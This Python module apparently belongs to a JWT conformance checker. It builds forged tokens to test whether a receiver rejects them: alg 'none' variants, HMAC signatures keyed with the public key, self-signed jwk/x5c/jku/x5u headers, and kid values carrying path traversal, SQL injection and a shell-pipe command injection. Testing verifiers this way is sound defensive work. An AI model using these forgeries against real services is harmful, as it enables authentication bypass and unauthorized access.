"""Forged tokens that a broken verifier would accept as validly signed. Pure (no I/O).

Each forgery keeps the real token's claims (issuer, audience, expiry are all valid), so the only
thing that can make a receiver refuse it is checking *who signed it*. RS/ES signatures come from
joserfc with a key certify makes; the HMAC ones from cryptography directly, because joserfc
rightly refuses to use a public key or an empty string as an HMAC key, and that misuse is
exactly what the forgery must commit.
"""

from __future__ import annotations

import base64
import datetime
import json
from dataclasses import dataclass
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, hmac, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from joserfc import jws
from joserfc.errors import JoseError
from joserfc.jwk import ECKey, JWKRegistry, RSAKey

ALG_NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
HMAC_ALGS: dict[str, type[hashes.SHA256 | hashes.SHA384 | hashes.SHA512]] = {
    "HS256": hashes.SHA256,
    "HS384": hashes.SHA384,
    "HS512": hashes.SHA512,
}
KID_INJECTIONS = (
    # Path traversal to an empty file: the verifier reads the "key" from disk and gets b"".
    ("../../../../../../../../dev/null", b""),
    # SQL injection that makes a key lookup return a value the attacker chose.
    ("x' UNION SELECT 'webhook-kit-certify' -- ", b"webhook-kit-certify"),
    # Command injection in a kid that is passed to a shell.
    ("webhook-kit|echo webhook-kit-certify", b"webhook-kit-certify"),
)


@dataclass(frozen=True)
class Forgery:
    label: str
    token: str


@dataclass(frozen=True)
class Parsed:
    header: dict[str, Any]
    claims: dict[str, Any]
    payload_b64: str
    signature_b64: str


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _b64decode(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def parse(token: str | None) -> Parsed | None:
    """The unverified header and claims of a compact JWS, or None for an opaque token."""
    if token is None:
        return None
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header = json.loads(_b64decode(parts[0]))
        claims = json.loads(_b64decode(parts[1]))
    except (ValueError, RecursionError):  # the token comes from the network: any shape
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return Parsed(header, claims, parts[1], parts[2])


def _encode_header(header: dict[str, Any]) -> str:
    return b64url(json.dumps(header, separators=(",", ":")).encode())


def hmac_token(header: dict[str, Any], payload_b64: str, key: bytes, alg: str) -> str:
    signing_input = f"{_encode_header(dict(header, alg=alg))}.{payload_b64}"
    mac = hmac.HMAC(key, HMAC_ALGS[alg]())
    mac.update(signing_input.encode())
    return f"{signing_input}.{b64url(mac.finalize())}"


def alg_none(real: Parsed) -> list[Forgery]:
    out = []
    for spelling in ALG_NONE_SPELLINGS:
        head = _encode_header(dict(real.header, alg=spelling))
        out.append(Forgery(f"alg '{spelling}', empty signature", f"{head}.{real.payload_b64}."))
        out.append(
            Forgery(
                f"alg '{spelling}', original signature kept",
                f"{head}.{real.payload_b64}.{real.signature_b64}",
            )
        )
    return out


def public_key_encodings(jwk: dict[str, Any]) -> list[tuple[str, bytes]]:
    """The receiver's public key in every form that confused libraries have used as an HMAC
    secret: PEM SPKI with and without its final newline, PKCS#1 PEM, DER, and the JWK JSON."""
    try:
        key = JWKRegistry.import_key(jwk)
    except (ValueError, TypeError, KeyError, JoseError):  # the receiver's JWKS: any shape
        return []
    if not isinstance(key, (RSAKey, ECKey)):
        return []
    public = key.public_key
    spki = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    forms = [
        ("PEM (SPKI)", spki),
        ("PEM (SPKI) without the final newline", spki.rstrip(b"\n")),
        (
            "DER (SPKI)",
            public.public_bytes(
                serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
            ),
        ),
        ("JWK JSON", json.dumps(jwk).encode()),
        ("JWK JSON, compact", json.dumps(jwk, separators=(",", ":")).encode()),
    ]
    if isinstance(public, rsa.RSAPublicKey):
        pkcs1 = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        forms.insert(2, ("PKCS#1 PEM", pkcs1))
    return forms


def alg_confusion(real: Parsed, jwks: dict[str, Any]) -> list[Forgery]:
    keys = [
        k for k in jwks.get("keys", []) if isinstance(k, dict) and k.get("kty") in ("RSA", "EC")
    ]
    kid = real.header.get("kid")
    chosen = [k for k in keys if kid is not None and k.get("kid") == kid] or keys[:3]
    out = []
    for jwk in chosen:
        for form, secret in public_key_encodings(jwk):
            for alg in HMAC_ALGS:
                name = f"{alg} keyed with the public key '{jwk.get('kid', '?')}' as {form}"
                out.append(Forgery(name, hmac_token(real.header, real.payload_b64, secret, alg)))
    return out


class ForgingKey:
    """certify's own signing key (generated per run), with a self-signed certificate for x5c."""

    def __init__(self) -> None:
        self.key = RSAKey.generate_key(2048, auto_kid=True)
        self.kid = str(self.key.kid)
        private = self.key.private_key
        assert isinstance(private, rsa.RSAPrivateKey)
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "webhook-kit certify forgery")])
        now = datetime.datetime.now(datetime.UTC)
        self.certificate = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(private.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=1))
            .sign(private, hashes.SHA256())
        )

    @property
    def public_jwk(self) -> dict[str, Any]:
        return dict(self.key.as_dict(private=False), kid=self.kid, use="sig", alg="RS256")

    @property
    def jwks(self) -> dict[str, Any]:
        return {"keys": [self.public_jwk]}

    @property
    def certificate_pem(self) -> bytes:
        return self.certificate.public_bytes(serialization.Encoding.PEM)

    @property
    def certificate_b64(self) -> str:
        return base64.b64encode(self.certificate.public_bytes(serialization.Encoding.DER)).decode()

    def sign(self, real: Parsed, **header: Any) -> str:
        """The real claims, signed RS256 by this key, with ``header`` (None values dropped)."""
        head = {"typ": real.header.get("typ", "JWT"), "alg": "RS256"}
        head.update({k: v for k, v in header.items() if v is not None})
        return jws.serialize_compact(head, _b64decode(real.payload_b64), self.key)


def self_keyed(
    real: Parsed, key: ForgingKey, jku: str | None, x5u: str | None
) -> dict[str, list[Forgery]]:
    """Tokens signed by certify's own key, by check id."""
    out: dict[str, list[Forgery]] = {
        "oauth.embedded_jwk": [
            Forgery(
                "its own key in the 'jwk' header", key.sign(real, jwk=key.public_jwk, kid=key.kid)
            )
        ],
        "oauth.embedded_x5c": [
            Forgery(
                "its own certificate in the 'x5c' header",
                key.sign(real, x5c=[key.certificate_b64], kid=key.kid),
            )
        ],
        "oauth.unknown_kid": [
            Forgery("an unknown kid", key.sign(real, kid=f"webhook-kit-unknown-{key.kid[:8]}"))
        ],
        "oauth.no_kid": [Forgery("no kid", key.sign(real))],
        "oauth.kid_injection": [
            Forgery(
                f"kid {kid!r}, HS256 keyed with {secret!r}",
                hmac_token(dict(real.header, kid=kid), real.payload_b64, secret, "HS256"),
            )
            for kid, secret in KID_INJECTIONS
        ]
        + [
            Forgery(
                f"kid {KID_INJECTIONS[1][0]!r}, RS256 by certify's key",
                key.sign(real, kid=KID_INJECTIONS[1][0]),
            )
        ],
    }
    if jku is not None:
        out["oauth.jku"] = [Forgery(f"'jku' {jku}", key.sign(real, jku=jku, kid=key.kid))]
    if x5u is not None:
        out["oauth.x5u"] = [Forgery(f"'x5u' {x5u}", key.sign(real, x5u=x5u, kid=key.kid))]
    return out
